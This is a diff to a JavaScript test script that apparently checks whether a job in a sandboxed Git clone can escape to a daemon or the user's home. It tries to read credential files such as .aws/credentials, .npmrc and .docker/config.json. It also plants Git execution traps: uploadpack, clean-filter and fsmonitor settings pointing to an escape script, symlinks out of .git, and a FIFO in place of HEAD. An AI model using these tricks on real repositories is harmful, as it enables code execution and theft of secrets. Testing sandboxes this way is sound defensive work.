@@ -5,6 +5,7 @@ import { execFileSync, spawnSync } from 'node:child_process';
 import {
   appendFileSync,
   existsSync,
+  lstatSync,
   mkdirSync,
   openSync,
   readdirSync,
@@ -141,6 +142,11 @@ for (const base of new Set([HOME, home, userInfo().homedir])) {
     '.netrc',
     '.ssh/id_ed25519',
     '.config/git/credentials',
+    '.config/git/config',
+    '.gitconfig',
+    '.docker/config.json',
+    '.npmrc',
+    '.aws/credentials',
   ])
     attemptTo(`${file} in ${name}`, () => holding(readFileSync(join(base, file), 'utf8')));
 }
@@ -177,6 +183,13 @@ attemptTo(
   "a ref planted in the daemon's copy",
   () => (writeFileSync(join(origin, 'refs/heads/planted'), `${'a'.repeat(40)}\n`), 'written'),
 );
+attemptTo("an object shared with the daemon's copy, written to", () => {
+  for (const name of readdirSync('.git/objects', { recursive: true })) {
+    const status = lstatSync(join('.git/objects', name));
+    if (status.isFile() && status.nlink > 1) return `${name} has ${status.nlink} names`;
+  }
+  return '';
+});
 attemptTo(
   'the API of the forge',
   () =>
@@ -258,6 +271,45 @@ if (attempt === '1') {
     execFileSync('git', ['-c', 'core.fsmonitor=false', 'config', name, program]);
   execFileSync('git', ['-c', 'core.fsmonitor=false', 'config', 'core.hooksPath', join(process.cwd(), '.git/hooks')]);
   writeFileSync('.git/info/attributes', '* filter=x\n');
+  // A repository inside the clone, whose settings are its own; what it starts writes where only the daemon can.
+  const inner = join(process.cwd(), 'inner');
+  const escapee = join(inner, 'escape.sh');
+  const quiet = (args, cwd = inner) =>
+    execFileSync('git', ['-c', 'core.fsmonitor=false', '-c', 'core.hooksPath=/dev/null', ...args], { cwd });
+  mkdirSync(inner);
+  quiet(['init', '-q', '-b', 'main']);
+  writeFileSync(escapee, `#!/bin/sh\necho "$0" >> ${trace}\necho "$0" >> ${join(home, 'escaped')}\ncat\n`, {
+    mode: 0o755,
+  });
+  quiet(['add', '.']);
+  quiet(['commit', '-qm', 'inner']);
+  writeFileSync(
+    '.gitmodules',
+    '[submodule "inner"]\n\tpath = inner\n\turl = ./inner\n\tfetchRecurseSubmodules = true\n',
+  );
+  const head = quiet(['rev-parse', 'HEAD']).toString().trim();
+  quiet(['update-index', '--add', '--cacheinfo', `160000,${head},inner`], process.cwd());
+  for (const [name, value] of [
+    ['remote.origin.url', inner],
+    ['remote.origin.uploadpack', escapee],
+    ['filter.x.clean', escapee],
+    ['core.fsmonitor', escapee],
+  ])
+    quiet(['config', name, value]);
+  writeFileSync('inner/.gitattributes', '* filter=x\n');
+  // Links for git and for the daemon to write through, and a pipe for them to wait at.
+  const link = (name, to) => {
+    rmSync(join('.git', name), { recursive: true, force: true });
+    symlinkSync(join(home, to), join('.git', name));
+  };
+  link('FETCH_HEAD', 'victim/attributes');
+  link('ORIG_HEAD', 'victim/attributes');
+  link('logs', 'victim');
+  link('info', 'victim');
+  link('hooks', 'victim');
+  writeFileSync('.git/refs/heads/stale.lock', '');
+  rmSync('.git/HEAD');
+  execFileSync('mkfifo', ['.git/HEAD']);
   rmSync(trace, { force: true });
   console.log('traps are set');
   process.exit(1);
@@ -266,7 +318,19 @@ attemptTo("the traps in the clone's configuration and hooks", () =>
   existsSync(trace) ? readFileSync(trace, 'utf8') : '',
 );
 
+attemptTo('code of its own outside of its namespaces, through a repository inside the clone', () =>
+  existsSync(join(home, 'escaped')) ? readFileSync(join(home, 'escaped'), 'utf8') : '',
+);
+attemptTo("files of the person's changed through links in the Git directory", () => {
+  const names = readdirSync(join(home, 'victim')).sort().join(' ');
+  const text = names === 'attributes grafts' ? readFileSync(join(home, 'victim/attributes'), 'utf8') : names;
+  return text === 'keep me\n' ? '' : text;
+});
+
 console.log(`${won} attempts succeeded`);
+execFileSync('git', ['rm', '-q', '--cached', '--force', 'inner']);
+rmSync('inner', { recursive: true });
+rmSync('.gitmodules');
 rmSync('trap.sh', { force: true });
 writeFileSync('honest.txt', 'the work\n');
 execFileSync('git', ['add', 'honest.txt']);
